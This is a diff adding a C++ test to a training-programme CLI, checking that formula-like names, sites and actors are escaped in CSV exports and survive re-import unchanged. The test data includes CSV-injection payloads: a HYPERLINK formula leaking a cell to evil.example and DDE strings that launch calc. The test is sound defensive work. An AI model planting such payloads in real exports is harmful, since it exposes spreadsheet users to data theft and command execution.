@@ -8,6 +8,7 @@
 #include <fstream>
 #include <sstream>
 
+#include "../io/cells.hpp"
 #include "names.hpp"
 #include "run_cli.hpp"
 
@@ -257,6 +258,63 @@ TEST_CASE("exports: personal data only on request, and a round trip through CSV 
     const std::string completions = slurp(ws.dir / "done.csv");
     CHECK(completions.find("KTM-2026-1,P-001,PROGRAMME,yes,yes,") != std::string::npos);
     CHECK(completions.find(kYamada) == std::string::npos);
+}
+
+TEST_CASE("names, sites and actors that look like formulas are exported as text and come back unchanged",
+          "[cli][export][formula]") {
+    Workspace ws;
+    small_programme(ws);
+    const std::string hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")";
+    ws.ok({"participant", "add", "--ref", "P-020", "--name", hyperlink, "--latin-name", "-Rai", "--country", "NP",
+           "--language", "ne", "--phone", "+977 1 555 0100"});
+    ws.ok({"participant", "add", "--ref", "P-021", "--name", "+cmd|' /C calc'!A0", "--country", "NP", "--language",
+           "ne", "--email", "-x@example.org"});
+    ws.ok({"participant", "add", "--ref", "P-022", "--name", "'=already quoted", "--latin-name", "O'Neil", "--country",
+           "NP", "--language", "ne"});
+    ws.ok({"cohort", "create", "--code", "KTM-2026-2", "--curriculum", "PSF", "--site", "=cmd|' /C calc'!A0 Hall",
+           "--country", "NP", "--language", "ne", "--start", "2026-02-02", "--trainer", "T-NP-01"});
+    const auto overridden = ws.run_as("@SUM(1+1)", {"completion", "override", kCohort, "P-006", "M01", "--complete",
+                                                    "--reason", "-recognised prior learning"});
+    INFO(overridden.err);
+    REQUIRE(overridden.status == 0);
+
+    auto no_formula_in = [](const std::string& csv) {
+        const auto cells = mitra::io::testing::spreadsheet_cells(csv);
+        REQUIRE(cells.size() > 10);
+        for (const auto& cell : cells) {
+            INFO("cell: [" << cell << "]");
+            CHECK_FALSE(mitra::io::testing::starts_formula(cell));
+        }
+    };
+
+    const fs::path people = ws.dir / "people.csv";
+    ws.ok({"participant", "export", "--out", people.string(), "--include-personal-data"});
+    const std::string csv = slurp(people);
+    no_formula_in(csv);
+    CHECK(csv.find("P-022,''=already quoted,O'Neil,") != std::string::npos);
+    CHECK(csv.find(",'-Rai,NP,ne,,'+977 1 555 0100,") != std::string::npos);
+
+    // What a spreadsheet saves unchanged imports as no change at all.
+    const std::string before = ws.dump();
+    const json again = ws.json({"participant", "import", people.string()});
+    CHECK(again["unchanged"] == 11);
+    CHECK(again["created"] == 0);
+    CHECK(again["updated"] == 0);
+    CHECK(ws.dump() == before);
+    const json shown = ws.json({"participant", "show", "P-020"});
+    CHECK(shown["full_name"] == hyperlink);
+    CHECK(shown["latin_name"] == "-Rai");
+    CHECK(shown["phone"] == "+977 1 555 0100");
+
+    ws.ok({"cohort", "export", "--out", (ws.dir / "cohorts.csv").string()});
+    const std::string cohorts = slurp(ws.dir / "cohorts.csv");
+    no_formula_in(cohorts);
+    CHECK(cohorts.find(",'=cmd|' /C calc'!A0 Hall,") != std::string::npos);
+
+    ws.ok({"audit", "--cohort", kCohort, "--out", (ws.dir / "audit.csv").string()});
+    const std::string audit = slurp(ws.dir / "audit.csv");
+    no_formula_in(audit);
+    CHECK(audit.find(",'@SUM(1+1),") != std::string::npos);
 }
 
 TEST_CASE("an issued certificate becomes an Open Badges 2.0 assertion", "[cli][badge]") {
